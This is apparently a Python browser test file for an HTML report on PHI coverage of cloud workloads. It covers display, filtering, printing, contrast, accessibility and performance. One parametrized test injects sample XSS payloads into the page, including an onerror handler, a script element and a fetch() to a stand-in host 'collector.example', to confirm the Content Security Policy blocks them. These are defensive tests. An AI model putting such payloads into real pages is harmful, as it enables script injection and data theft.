"""The HTML report in a real browser: what people see, reach, filter and print, and that names stay data."""

from __future__ import annotations

import re
from itertools import pairwise
from typing import Any

import pytest

from browser.made_up import HOSTILE, hostile, many
from browser.opened import Open, Opened
from openai_phi.finding.results import Result

CONTRAST = """() => {
  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const ground = (e) => {
    for (; e; e = e.parentElement) {
      const c = parse(getComputedStyle(e).backgroundColor);
      if (c.length === 3 || c[3] === 1) return c;
    }
    return [255, 255, 255];
  };
  const poor = [];
  for (const e of document.body.querySelectorAll('*')) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    if (!own || !e.checkVisibility() || e.closest('script, svg, .skip')) continue;
    const [a, b] = [light(parse(getComputedStyle(e).color)), light(ground(e))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) poor.push(`${e.tagName}.${e.className} ${e.textContent.slice(0, 30)} ${ratio.toFixed(2)}`);
  }
  return poor;
}"""


def settled(it: Opened, said: str) -> None:
    """Waits until the filter has counted."""
    exactly = re.compile(rf"^{re.escape(said)}( workloads)?$")
    it.page.locator("#shown", has_text=exactly).wait_for()


# -- what is seen --------------------------------------------------------------------------


def test_status_and_picture_are_there_at_a_glance(opened: Open, sample: Result) -> None:
    it = opened(sample)
    assert "3 of 7 PHI workloads are not covered" in it.page.inner_text("#status")
    assert it.page.locator("#flow-canvas .node.workload").count() == 7
    assert it.page.locator("#flow-canvas .node.workload.not-covered").count() == 3
    assert it.page.locator("#flow-canvas .node.endpoint.not-covered").count() == 1
    # three from PHI, and one to each endpoint that breaks cover: what intake may call besides is covered
    assert it.page.locator("#flow-canvas path.not-covered").count() == 6
    heads = it.page.locator("#flow-canvas .head").all_text_contents()
    assert heads == ["PHI from", "Workloads", "Endpoints"]
    assert len(it.rows) == 8


def test_without_scripts_everything_but_the_picture_is_there(opened: Open, sample: Result) -> None:
    it = opened(sample, java_script_enabled=False)
    assert it.page.locator("tr.row").count() == it.page.locator("tr.detail:visible").count() == 8
    assert not it.page.locator("#filters").is_visible()
    assert "no picture" in it.page.locator("#flow noscript").inner_text()


def test_light_and_dark_have_contrast(opened: Open, sample: Result) -> None:
    for scheme in ("light", "dark"):
        it = opened(many(sample, 14), color_scheme=scheme)
        it.page.click("#expand")
        for finding in it.page.locator(".finding summary").all():
            finding.click()
        ground = it.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (ground == "rgb(16, 20, 26)") is (scheme == "dark")
        assert it.page.evaluate(CONTRAST) == []


def test_print_takes_all_details_on_light_paper(opened: Open, sample: Result) -> None:
    it = opened(sample, color_scheme="dark")
    it.page.emulate_media(media="print")
    it.page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert it.page.locator("tr.detail:visible").count() == 8
    assert it.page.locator(".finding[open]").count() == len(sample.findings)
    assert not it.page.locator("nav").is_visible()
    assert (
        it.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    )
    it.page.set_viewport_size({"width": 703, "height": 1000})
    assert it.page.evaluate("document.documentElement.scrollWidth") <= 703
    assert it.page.pdf(prefer_css_page_size=True).startswith(b"%PDF")


def test_a_narrow_screen_scrolls_down_only(opened: Open, sample: Result) -> None:
    it = opened(sample, viewport={"width": 390, "height": 800})
    it.page.click("#expand")
    assert it.page.evaluate("document.documentElement.scrollWidth") <= 390
    it.page.locator("button.toggle").first.click()
    name = it.page.locator("tr.row th .name").first.bounding_box()
    assert name
    assert name["width"] > 160  # also while a row below it spans all columns
    scrolled = "document.querySelector('#workloads .scroll, #workload-table').parentElement"
    assert it.page.evaluate(f"{scrolled}.scrollWidth <= {scrolled}.clientWidth + 1")


# -- search and filter ---------------------------------------------------------------------


def test_search_narrows_table_and_picture(opened: Open, sample: Result) -> None:
    it = opened(sample)
    it.page.fill("#search", "intake conversations")
    settled(it, "1 of 8")
    assert it.rows == ["aws_lambda_function.intake"]
    assert [n for n in it.nodes if n.startswith("Workload")] == [
        "Workload aws_lambda_function.intake at terraform/intake.tf:2: not covered. Show only this."
    ]
    it.page.fill("#search", "LEGAL nothing-of-this-name")
    settled(it, "0 of 8")
    assert it.page.locator("#nothing").is_visible()
    it.page.click("#filters button[type=reset]")
    settled(it, "8 workloads")
    assert len(it.rows) == 8


def test_search_looks_into_the_details(opened: Open, sample: Result) -> None:
    it = opened(sample)
    it.page.fill("#search", "proj_research")
    settled(it, "1 of 8")
    assert it.rows == ["Deployment.clinic.portal-research"]


def test_verdicts_filter_and_tiles_lead_to_them(opened: Open, sample: Result) -> None:
    it = opened(sample)
    it.page.uncheck("input[value=covered]")
    settled(it, "5 of 8")
    assert it.page.locator("#flow-canvas .node.workload").count() == 4
    it.page.click("a[data-only=unproven]")
    settled(it, "1 of 8")
    assert it.rows == ["Deployment.clinic.discharge-letters"]
    it.page.click("a[data-only=other]")
    settled(it, "1 of 8")
    assert "No judged workload" in it.page.inner_text("#flow-note")


def test_hover_lights_a_way_and_a_click_shows_its_workloads(opened: Open, sample: Result) -> None:
    it = opened(sample)
    node = it.page.locator(".node.endpoint", has_text="/v1/conversations")
    node.hover()
    assert "itself not covered: 1 workload, 1 not covered" in it.page.inner_text("#flow-says")
    assert it.page.locator("path.lit").count() == 2
    lit = it.page.locator(".node.lit").count()
    assert lit == 3
    node.click()
    settled(it, "1 of 8")
    assert it.rows == ["aws_lambda_function.intake"]
    assert it.page.locator("tr.detail:visible").count() == 1


def test_links_between_findings_and_workloads_open_what_they_lead_to(
    opened: Open, sample: Result
) -> None:
    it = opened(sample)
    it.page.locator(".toggle", has_text="intake").click()
    it.page.locator("tr.detail:visible a", has_text="OAI_COVERAGE_1").click()
    finding = it.page.locator(".finding[open]")
    assert "stop sending PHI to /v1/conversations" in finding.inner_text()
    it.page.fill("#search", "triage")
    settled(it, "1 of 8")
    finding.get_by_text("The way from PHI").click()
    settled(it, "8 workloads")
    assert it.page.locator("tr.detail:visible").count() == 1


# -- keyboard and screen reader ------------------------------------------------------------


def test_the_keyboard_reaches_and_does_everything(opened: Open, sample: Result) -> None:
    it = opened(sample)
    keys = it.page.keyboard
    keys.press("Tab")
    assert it.page.evaluate("document.activeElement.className") == "skip"
    it.page.focus("#filters button[type=reset]")
    keys.press("Tab")
    first = it.page.evaluate("document.activeElement.getAttribute('aria-label')")
    assert first.startswith("PHI from ")
    keys.press("ArrowRight")
    assert it.page.evaluate("document.activeElement.getAttribute('aria-label')").startswith(
        "Workload"
    )
    assert it.page.locator(".node[tabindex='0']").count() == 1
    keys.press("Enter")
    settled(it, "1 of 8")
    assert it.page.evaluate("document.activeElement.classList.contains('node')")
    keys.press("Escape")
    settled(it, "8 workloads")
    toggle = it.page.locator(".toggle").first
    toggle.focus()
    keys.press("Enter")
    assert toggle.get_attribute("aria-expanded") == "true"
    assert it.page.locator(f"#{toggle.get_attribute('aria-controls')}").is_visible()
    keys.press("Space")
    assert toggle.get_attribute("aria-expanded") == "false"


def test_focus_can_be_seen(opened: Open, sample: Result) -> None:
    it = opened(sample)
    for _ in range(30):
        it.page.keyboard.press("Tab")
        seen = it.page.evaluate("""() => {
          const e = document.activeElement;
          const box = e.querySelector?.('rect.box');
          return getComputedStyle(e).outlineStyle !== 'none' || (box && parseFloat(getComputedStyle(box).strokeWidth) >= 3);
        }""")
        assert seen, it.page.evaluate("document.activeElement.outerHTML.slice(0, 80)")


def test_landmarks_headings_and_tables_have_names(opened: Open, sample: Result) -> None:
    page = opened(sample).page
    page.click("#expand")
    for role, number in (("banner", 1), ("navigation", 1), ("main", 1), ("search", 1)):
        assert page.get_by_role(role).count() == number  # type: ignore[arg-type]
    levels: list[int] = page.evaluate(
        "[...document.querySelectorAll('h1,h2,h3,h4,h5')].filter(e => e.checkVisibility()).map(e => +e.tagName[1])"
    )
    assert levels.count(1) == 1
    assert all(b - a <= 1 for a, b in pairwise(levels))
    assert page.locator("table:not(:has(> caption))").count() == 0
    assert page.locator("th:not([scope])").count() == 0
    nameless = "[...document.querySelectorAll('button, a, input, summary')].filter(e => !(e.textContent.trim() || e.labels?.length)).length"
    assert page.evaluate(nameless) == 0
    assert page.evaluate("new Set([...document.querySelectorAll('[id]')].map(e => e.id)).size") == (
        page.locator("[id]").count()
    )
    for link in page.locator("a[href^='#']").all():
        target = str(link.get_attribute("href"))[1:]
        assert page.locator(f"[id='{target}']").count() == 1, target


# -- hostile names -------------------------------------------------------------------------


def test_hostile_text_is_data(opened: Open, sample: Result) -> None:
    plain = opened(sample)
    it = opened(hostile(sample))
    for page in (plain.page, it.page):
        page.click("#expand")
        for summary in page.locator("summary").all():
            summary.click()
    it.page.fill("#search", HOSTILE.split()[0])
    settled(it, "8 workloads")
    for node in it.page.locator(".node").all():
        node.hover()
    assert it.page.evaluate("window.hacked") is None
    kinds = "[...new Set([...document.querySelectorAll('*')].map(e => e.tagName))].sort()"
    assert set(it.page.evaluate(kinds)) - set(plain.page.evaluate(kinds)) <= {"OL", "DT"}
    assert it.page.locator("img, iframe, object, embed, base, svg svg").count() == 0
    assert it.page.locator("script").count() == plain.page.locator("script").count()
    handlers = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on') || n === 'style')"
    assert it.page.evaluate(handlers) == []
    links = "[...document.querySelectorAll('a')].map(e => e.href).filter(h => !/^(https:\\/\\/|file:)/.test(h))"
    assert it.page.evaluate(links) == []
    assert "\u202e" not in it.page.content()
    assert HOSTILE.split("\u202e")[0] in it.page.inner_text("main")


@pytest.mark.parametrize(
    "attack",
    [
        "const i = document.createElement('img'); i.setAttribute('onerror', 'window.hacked=1'); i.src = 'data:,'; document.body.append(i)",
        "const s = document.createElement('script'); s.textContent = 'window.hacked=1'; document.body.append(s)",
        "fetch('https://collector.example/').then(() => { window.hacked = 1 }, () => {})",
    ],
    ids=["handler", "script", "request"],
)
def test_even_markup_that_got_in_could_not_run_or_report(
    opened: Open, sample: Result, attack: str
) -> None:
    it = opened(sample)
    it.page.evaluate(f"() => {{ {attack} }}")
    it.page.wait_for_timeout(100)
    assert it.page.evaluate("window.hacked") is None
    assert it.troubles
    assert all("Content Security Policy" in t for t in it.troubles)
    it.troubles.clear()
    it.requests[:] = [r for r in it.requests if "collector" not in r]


# -- size ----------------------------------------------------------------------------------


def test_a_thousand_workloads_open_within_two_seconds(opened: Open, sample: Result) -> None:
    result = many(sample, 1000)
    times = []
    for _ in range(3):  # the best of three: other work of the machine is not the report's
        it = opened(result)
        timing: dict[str, Any] = it.page.evaluate(
            "performance.getEntriesByType('navigation')[0].toJSON()"
        )
        times.append(timing["loadEventEnd"])
        it.page.close()
    assert min(times) < 2000, times


def test_a_thousand_workloads_stay_usable(opened: Open, sample: Result) -> None:
    it = opened(many(sample, 1000))
    assert "1000 workloads are drawn as" in it.page.inner_text("#flow-note")
    drawn = it.page.locator("#flow-canvas .node.workload").count()
    assert 1 < drawn <= 40
    assert it.page.locator("#flow-canvas .node").count() <= 160
    it.page.fill("#search", "intake-705")
    settled(it, "1 of 1000")
    assert it.rows == ["aws_lambda_function.intake-705"]
    assert it.page.inner_text("#flow-note") == ""
    it.page.fill("#search", "")
    settled(it, "1000 workloads")
    group = it.page.locator(".node.workload", has_text=" workloads").first
    number = int(group.locator("text:not(.sign):not(.note)").text_content().split()[0])  # type: ignore[union-attr]
    group.click()
    settled(it, f"{number} of 1000")
